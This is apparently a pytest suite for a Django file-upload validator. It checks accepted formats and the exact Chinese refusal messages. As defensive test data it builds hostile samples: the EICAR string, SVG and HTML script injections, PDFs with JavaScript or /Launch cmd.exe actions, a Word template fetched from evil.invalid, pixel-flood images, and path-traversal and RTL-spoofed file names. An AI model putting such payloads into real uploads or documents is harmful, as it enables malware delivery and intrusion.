"""What comes in, what does not, each with its exact sentence."""

import struct
import zlib
from io import BytesIO

import pytest
from django.core.exceptions import ValidationError
from PIL import Image, ImageFile
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from jiaxing_titles.attachments.validators import check_upload, clean_name
from tests.jiaxing_titles.attachments.conftest import docx, package, pdf, pdf_by_hand, picture, uploaded

ALL = "PDF、JPG 图片、PNG 图片、Excel（xlsx）、Word（docx）、OFD"
REPRINT = "请用“打印—另存为 PDF”生成新文件"
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
OLE = bytes.fromhex("d0cf11e0a1b11ae1")


def refusal(name, content, **options):
    with pytest.raises(ValidationError) as caught:
        check_upload(uploaded(name, content), **options)
    assert len(caught.value.messages) == 1
    return caught.value.messages[0]


@pytest.mark.parametrize(
    ("name", "content", "kind", "pages"),
    [
        ("学历证书.PDF", pdf(3), "pdf", 3),
        ("照片.jpeg", picture("JPEG"), "jpg", 1),
        ("截图.v1.2.png", picture(), "png", 1),
        ("申请报告.docx", docx(), "docx", None),
        ("表.xlsx", package({"xl/workbook.xml": b"<x/>"}), "xlsx", None),
        ("电子文件.ofd", package({"OFD.xml": b"<x/>"}), "ofd", None),
    ],
)
def test_good_files(name, content, kind, pages):
    checked = check_upload(uploaded(name, content))
    assert (checked.name, checked.kind, checked.pages) == (name, kind, pages)


@pytest.mark.parametrize(
    ("name", "content", "sentence"),
    [
        ("a.pdf", b"", "文件是空的（0 字节），请重新选择。"),
        ("a.exe", b"MZ" + b"\0" * 500, f"不接收“.exe”文件。可以上传：{ALL}。"),
        ("a.pdf", b"MZ" + b"\0" * 500, f"文件内容是 exe 类型的文件。可以上传：{ALL}。"),
        ("报告", pdf(), f"不接收没有扩展名的文件。可以上传：{ALL}。"),
        ("a.svg", b"<svg/>", f"不接收“.svg”文件。可以上传：{ALL}。"),
        ("a.png", b'<svg onload="alert(1)"/>', f"这是网页或 SVG 文件，不能上传。可以上传：{ALL}。"),
        ("a.jpg", b"\xef\xbb\xbf\n <!doctype html><script>", f"这是网页或 SVG 文件，不能上传。可以上传：{ALL}。"),
        ("a.pdf", EICAR, f"文件内容不是可识别的文件。可以上传：{ALL}。"),
        ("a.zip", package({"a": b"x"}), f"不接收“.zip”文件。可以上传：{ALL}。"),
        ("a.docx", package({"a": b"x"}), f"文件内容是 zip 类型的文件。可以上传：{ALL}。"),
        ("a.xls", OLE + b"\0" * 600, "不接收旧版 Office 文件（xls）。请另存为 xlsx 再上传。"),
        ("a.doc", OLE + b"\0" * 600, "不接收旧版 Office 文件（doc）。请另存为 docx 再上传。"),
        (
            "a.xlsx",
            OLE + b"\0" * 600,
            "这是旧版 Office 文件（xls、doc）。请用 Excel 或 WPS 另存为 xlsx 或 docx 再上传，只改文件名没有用。",
        ),
        (
            "a.docx",
            OLE + "EncryptedPackage".encode("utf-16-le"),
            "文件设了打开密码。请在 Excel 或 WPS 中取消密码后重新保存再上传。",
        ),
        ("a.pdf", picture(), "文件名是 .pdf，内容却是 PNG 图片。请把扩展名改为 .png 后再上传。"),
        ("a.png", picture("JPEG"), "文件名是 .png，内容却是 JPG 图片。请把扩展名改为 .jpg 后再上传。"),
        (
            "a.xlsx",
            docx(),
            "文件名是 .xlsx，内容却是 Word（docx）。请把扩展名改为 .docx 后再上传。",
        ),
        ("奖状.exe.pdf", pdf(), "文件名有两个扩展名，像是伪装的程序，未予接收。请改名后再上传。"),
        ("奖状.html .pdf", pdf(), "文件名有两个扩展名，像是伪装的程序，未予接收。请改名后再上传。"),
        (
            "a.docx",
            docx(**{"word/vbaProject.bin": b"x"}),
            "文件含有宏，未予接收。请另存为不含宏的文件（xlsx、docx）再上传。",
        ),
        (
            "a.docx",
            docx(
                **{
                    "word/_rels/settings.xml.rels": b'<Relationships><Relationship Type="x/attachedTemplate" '
                    b'Target="http://evil.invalid/t.dotm" TargetMode="External"/></Relationships>'
                }
            ),
            "文件会从外部地址读取内容，未予接收。请删除外部链接后重新保存再上传。",
        ),
    ],
)
def test_refused(name, content, sentence):
    assert refusal(name, content) == sentence


def test_too_large_is_refused_by_its_size_and_by_its_bytes():
    large = uploaded("a.pdf", b"%PDF-" + b"\0" * (20 * 2**20))
    assert refusal("a.pdf", large.read()) == "文件有 20.0 MB，超过 20 MB 的上限。请压缩或拆分后再上传。"
    lying = uploaded("a.pdf", b"%PDF-" + b"\0" * (2 * 2**20))
    lying.size = 5
    with pytest.raises(ValidationError, match="超过 1 MB 的上限"):
        check_upload(lying, max_mb=1)


def test_only_the_kinds_asked_for():
    assert refusal("a.docx", docx(), kinds=("pdf", "jpg")) == "不接收“.docx”文件。可以上传：PDF、JPG 图片。"


def with_root(key, value):
    def change(writer):
        writer._root_object[NameObject(key)] = value

    return pdf(change=change)


LAUNCH = DictionaryObject({NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")})
MOVIE = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Movie")})


@pytest.mark.parametrize(
    ("content", "sentence"),
    [
        (
            pdf_by_hand(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", b"<</S/JavaScript/JS(app.alert(1))>>", b"<<>>"),
            f"PDF 含有脚本（JavaScript），未予接收。{REPRINT}后再上传。",
        ),
        (
            pdf_by_hand(b"/OpenAction<</S/Java#53cript/J#53(x)>>", b"<<>>", b"<<>>"),
            f"PDF 含有脚本（JavaScript），未予接收。{REPRINT}后再上传。",
        ),
        (
            pdf_by_hand(b"/OpenAction<</S 4 0 R/F(cmd.exe)>>", b"/Launch", b"<<>>"),
            f"PDF 含有会启动程序或外发数据的动作，未予接收。{REPRINT}后再上传。",
        ),
        (with_root("/OpenAction", LAUNCH), f"PDF 含有会启动程序或外发数据的动作，未予接收。{REPRINT}后再上传。"),
        (
            pdf(change=lambda w: w.add_attachment("virus.exe", b"MZ")),
            f"PDF 内嵌了其他文件，未予接收。{REPRINT}，内嵌的文件单独上传。",
        ),
        (with_root("/Annots", ArrayObject([MOVIE])), f"PDF 含有动态表单或多媒体，未予接收。{REPRINT}后再上传。"),
        (pdf(change=lambda w: w.encrypt("secret")), "PDF 设了打开密码。请取消密码后重新保存再上传。"),
        (pdf()[:-300], "PDF 已损坏，无法打开。请重新生成或扫描后再上传。"),
        (b"%PDF-1.7\nnothing here", "PDF 已损坏，无法打开。请重新生成或扫描后再上传。"),
        (b"%PDF-1.4\n" + picture("JPEG"), "PDF 已损坏，无法打开。请重新生成或扫描后再上传。"),
        (pdf(pages=0), "PDF 已损坏，无法打开。请重新生成或扫描后再上传。"),
        (pdf() + b"MZ" + b"x" * 4000, f"PDF 末尾附带了其他内容，未予接收。{REPRINT}后再上传。"),
    ],
)
def test_refused_pdf(content, sentence):
    assert refusal("a.pdf", content) == sentence


def test_javascript_packed_into_an_object_stream_is_found():
    """Searching the bytes would not find it: the object is compressed."""
    inner = b"6 0 <</S/JavaScript/JS(x)>>"
    packed = zlib.compress(inner)
    content = pdf_by_hand(b"/OpenAction 6 0 R", b"<<>>", b"<<>>")
    assert b"JavaScript" not in content
    number = len(content)
    stream = b"7 0 obj\n<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>stream\n%s\nendstream\nendobj\n" % (
        len(packed),
        packed,
    )
    place = number + len(stream)
    rows = struct.pack(">BIB", 2, 7, 0) + struct.pack(">BIB", 1, number, 0) + struct.pack(">BIB", 1, place, 0)
    old = content.rindex(b"xref\n0", 0, content.rindex(b"startxref"))
    xref = (
        b"8 0 obj\n<</Type/XRef/Size 9/Root 1 0 R/Prev %d/W[1 4 1]/Index[6 3]/Length %d>>"
        b"stream\n%s\nendstream\nendobj\n"
        b"startxref\n%d\n%%%%EOF\n" % (old, len(rows), rows, place)
    )
    assert refusal("a.pdf", content + stream + xref) == f"PDF 含有脚本（JavaScript），未予接收。{REPRINT}后再上传。"


def test_pdf_locked_against_changes_only_is_taken():
    content = pdf(change=lambda w: w.encrypt("", "owner"))
    assert check_upload(uploaded("学信网报告.pdf", content)).pages == 1


def png_of(width, height):
    """A PNG that declares a size and holds almost nothing."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


@pytest.mark.parametrize(("width", "height"), [(8000, 5001), (12_000, 9_000), (50_000, 50_000)])
def test_pixel_flood(width, height):
    assert refusal("a.png", png_of(width, height)) == "图片超过 40 百万像素的上限。请缩小尺寸后再上传。"


@pytest.mark.parametrize(
    "content", [picture("JPEG", (400, 400))[:-200], picture("PNG", (400, 400))[:-60], png_of(9, 9)]
)
def test_damaged_pictures(content, monkeypatch):
    """Also in a process that has imported WeasyPrint, which tells Pillow to be lenient."""
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)
    name = "a.png" if content.startswith(b"\x89") else "a.jpg"
    assert refusal(name, content) == "图片已损坏，无法打开。请重新拍照或截图后再上传。"


def test_pictures_lose_what_was_hidden_and_stand_upright():
    exif = Image.Exif()
    exif[0x0112] = 6  # turned by 90°
    exif[0x010E] = "secret place"
    content = picture("JPEG", (60, 40), exif=exif) + b"<script>alert(1)</script>PK\x03\x04"
    kept = check_upload(uploaded("a.jpg", content)).content
    assert b"secret place" not in kept and b"<script>" not in kept and b"PK\x03\x04" not in kept
    with Image.open(BytesIO(kept)) as picture_kept:
        assert picture_kept.size == (40, 60) and not picture_kept.getexif()


@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGBA", "I;16", "CMYK"])
def test_pictures_of_every_mode(mode):
    kind, name = ("JPEG", "a.jpg") if mode == "CMYK" else ("PNG", "a.png")
    kept = check_upload(uploaded(name, picture(kind, mode=mode))).content
    with Image.open(BytesIO(kept)) as again:
        again.load()
        assert again.size == (60, 40)


@pytest.mark.parametrize(
    ("typed", "kept"),
    [
        ("../../etc/证书.pdf", "证书.pdf"),
        ("C:\\Users\\李\\证书.pdf", "证书.pdf"),
        ("发票\u202efdp.exe", "发票fdp.exe"),
        ("名\x00\n.pdf", "名.pdf"),
        ("", "未命名"),
        ("..", "未命名"),
        ("长" * 300 + ".pdf", "长" * 190 + ".pdf"),
    ],
)
def test_names(typed, kept):
    assert clean_name(typed) == kept
